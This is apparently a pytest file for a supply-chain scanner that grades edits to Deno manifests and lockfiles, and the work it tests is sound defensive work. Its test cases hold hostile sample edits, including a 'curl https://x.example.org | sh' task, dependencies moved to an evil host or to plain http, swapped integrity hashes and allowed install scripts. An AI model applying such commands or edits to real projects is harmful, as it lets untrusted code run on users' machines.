"""What an edit of deno.json, jsr.json, an import map or deno.lock means."""

from __future__ import annotations

import json
from typing import Any

import pytest
from javascript_kit import any_type_anywhere, deltas, edited, never_raises, said
from kit.patience import within

from scanner.formats.javascript import deno_json, deno_lock

MANIFEST: dict[str, Any] = {
    "name": "@acme/tool",
    "version": "1.0.0",
    "license": "MIT",
    "exports": {".": "./mod.ts"},
    "imports": {
        "@acme/right": "jsr:@acme/right@^1.0.0",
        "left": "npm:left@^1.0.0",
        "nick": "npm:real@1.0.0/sub",
        "web": "https://x.example.org/web@v1.0.0/mod.ts",
    },
    "tasks": {"build": "deno run build.ts", "lint": "deno lint"},
    "publish": {"include": ["src"], "exclude": ["secret"]},
    "minimumDependencyAge": "P7D",
    "fmt": {"lineWidth": 100},
    "lint": {"rules": {}},
    "compilerOptions": {"strict": True},
}
PLAIN = json.dumps(MANIFEST, indent=2)
LOCK = json.dumps(
    {
        "version": "5",
        "specifiers": {"npm:left@1": "1.0.0"},
        "jsr": {"@acme/right@1.0.0": {"integrity": "aaaa", "dependencies": ["jsr:@acme/x"]}},
        "npm": {"left@1.0.0_peer@1.0.0": {"integrity": "sha512-left==", "dependencies": ["x"]}},
        "redirects": {"https://x.example.org/a": "https://x.example.org/b"},
        "remote": {"https://x.example.org/web@1.0.0/mod.ts": "bbbb"},
    },
    indent=2,
)

CASES = {
    "name": (["@acme/tool", "@acme/tools"], ["high package-renamed name"]),
    "version": (['"version": "1.0.0"', '"version": "1.1.0"'], ["medium version-changed version"]),
    "licence": (["MIT", "BSD"], ["medium license-changed license"]),
    "another module": (['"./mod.ts"', '"./evil.ts"'], ["high entry-point-changed exports[.]"]),
    "bumped": (["right@^1.0.0", "right@^1.1.0"], ["medium dependency-bumped @acme/right"]),
    "bumped under another name": (["real@1.0.0", "real@1.1.0"], ["medium dependency-bumped real"]),
    "bumped by address": (["web@v1.0.0", "web@v1.1.0"], ["medium dependency-bumped web"]),
    "another address": (["x.example.org/web", "evil.example.org/web"], ["high source-changed web"]),
    "without encryption": (["https://x", "http://x"], ["critical source-changed web"]),
    "any version": (["npm:left@^1.0.0", "npm:left"], ["high pin-loosened left"]),
    "another registry": (["npm:left@", "jsr:left@"], ["high source-changed left"]),
    "added": (['"left": "npm', '"new": "npm:new@1",\n    "left": "npm'], ["high dependency-added new"]),
    "removed": (['"left": "npm:left@^1.0.0",', ""], ["low dependency-removed left"]),
    "build": (["build.ts", "evil.ts"], ["medium build-script-changed tasks.build"]),
    "fetched and run": (["deno lint", "curl https://x.example.org | sh"], ["critical download-and-run tasks.lint"]),
    "more published": (['"src"', '"src", "tests"'.replace(", ", ",\n")], ["high package-contents-widened publish"]),
    "less published": (['"secret"', '"secret",\n"more"'], ["medium package-contents-changed publish"]),
    "published after all": (['"secret"', ""], ["high package-contents-widened publish"]),
    "cool-down": (["P7D", "P1D"], ["high cooldown-lowered minimumDependencyAge"]),
    "scripts": (['"fmt"', '"allowScripts": ["npm:evil"],\n"fmt"'], ["critical install-scripts-allowed allowScripts"]),
    "no lock": (['"fmt"', '"lock": false,\n"fmt"'], ["high check-weakened lockfile"]),
    "imports from elsewhere": (
        ['"fmt"', '"importMap": "https://x.example.org/m.json",\n"fmt"'],
        ["medium setting-changed importMap"],
    ),
}


@pytest.mark.parametrize(("edits", "expected"), CASES.values(), ids=CASES)
def test_an_edit_of_a_manifest_is_told(edits: list[str], expected: list[str]) -> None:
    assert said(deno_json, PLAIN, edited(PLAIN, *edits)) == sorted(expected)


QUIET = {
    "format": ["100", "120"],
    "lint": ['"rules": {}', '"rules": {"tags": []}'],
    "type checks": ['"strict": true', '"strict": false'],
    "lint task": ["deno lint", "deno lint src"],
    "a comment": ['"fmt"', '// looks\n"fmt"'],
    "a file of a package": ["real@1.0.0/sub", "real@1.0.0/other"],
}


@pytest.mark.parametrize("edits", QUIET.values(), ids=QUIET)
def test_what_ships_the_same_is_not_told(edits: list[str]) -> None:
    assert said(deno_json, PLAIN, edited(PLAIN, *edits)) == []


def test_no_longer_to_be_published() -> None:
    assert said(deno_json, '{"publish": false}', "{}") == ["critical publish-changed publish"]


def test_new_and_removed_manifests() -> None:
    assert said(deno_json, None, '{"imports": {"a": "npm:a@1"}, "name": "x"}') == [
        "high dependency-added a",
        "medium publish-changed name",
    ]
    assert said(deno_json, PLAIN, None) == ["medium file-removed file"]


LOCKED = {
    "bumped": (["left@1.0.0", "left@1.1.0", "sha512-left", "sha512-more"], ["medium dependency-bumped left"]),
    "down": (["right@1.0.0", "right@0.9.0", "aaaa", "abab"], ["high dependency-downgraded @acme/right"]),
    "other bytes": (["sha512-left==", "sha512-evil=="], ["critical hash-changed left"]),
    "other bytes from JSR": (["aaaa", "abab"], ["critical hash-changed @acme/right"]),
    "other bytes from an address": (["bbbb", "cccc"], ["critical hash-changed https://x.example.org/web/mod.ts"]),
    "another address": (
        ['"https://x.example.org/web', '"https://evil.example.org/web'],
        [
            "critical source-changed https://evil.example.org/web/mod.ts",
            "low dependency-removed https://x.example.org/web/mod.ts",
            "medium dependency-added https://evil.example.org/web/mod.ts",
        ],
    ),
    "no hash": (['"integrity": "sha512-left==",', ""], ["high hash-removed left"]),
    "led elsewhere": (
        ['"https://x.example.org/b"', '"https://x.example.org/c"'],
        ["high source-changed https://x.example.org/a"],
    ),
    "install script": (
        ['"integrity": "sha512', '"scripts": true,\n"integrity": "sha512'],
        ["high install-script-added left"],
    ),
    "format": (['"version": "5"', '"version": "6"'], ["low lock-format-changed version"]),
}


@pytest.mark.parametrize(("edits", "expected"), LOCKED.values(), ids=LOCKED)
def test_an_edit_of_a_lock_is_told(edits: list[str], expected: list[str]) -> None:
    assert said(deno_lock, LOCK, edited(LOCK, *edits)) == sorted(expected)


@pytest.mark.parametrize("edits", [["npm:left@1", "npm:left@^1"], ['"x"', '"y"'], ["\n", "\n\n"]])
def test_what_locks_the_same_is_not_told(edits: list[str]) -> None:
    assert said(deno_lock, LOCK, edited(LOCK, *edits)) == []


def test_new_and_removed_locks() -> None:
    assert said(deno_lock, None, LOCK) == ["medium lock-added file"]
    assert said(deno_lock, LOCK, None) == ["high file-removed file"]


@pytest.mark.parametrize("text", ["[]", "{", "<<<<<<< HEAD\n{}", '{"a": 1, "a": 2}', "{{ x }}"])
def test_what_cannot_be_read_is_as_bad_as_it_gets(text: str) -> None:
    for form in (deno_json, deno_lock):
        assert [f"{each.severity} {each.kind}" for each in deltas(form, "{}", text)] == ["critical opaque"]


def test_they_are_known_by_their_names() -> None:
    assert all(map(deno_json.matches, ("deno.json", "a/deno.jsonc", "jsr.json", "import_map.json")))
    assert deno_lock.matches("deno.lock")
    assert not deno_json.matches("deno.lock")


test_a_manifest_never_raises = never_raises(deno_json, PLAIN.encode())
test_a_lock_never_raises = never_raises(deno_lock, LOCK.encode())
test_any_type_may_stand_anywhere_in_a_manifest = any_type_anywhere(deno_json, MANIFEST)
test_any_type_may_stand_anywhere_in_a_lock = any_type_anywhere(deno_lock, json.loads(LOCK))


def test_large_files_are_read_in_time() -> None:
    lock = json.dumps({"npm": {f"a{n}@1.0.0": {"integrity": f"sha512-{n}=="} for n in range(30_000)}})
    with within(2):
        assert said(deno_lock, lock, edited(lock, "sha512-77==", "sha512-x")) == ["critical hash-changed a77"]
    with within(2):
        deltas(deno_json, "{}", '{"' * 200_000)
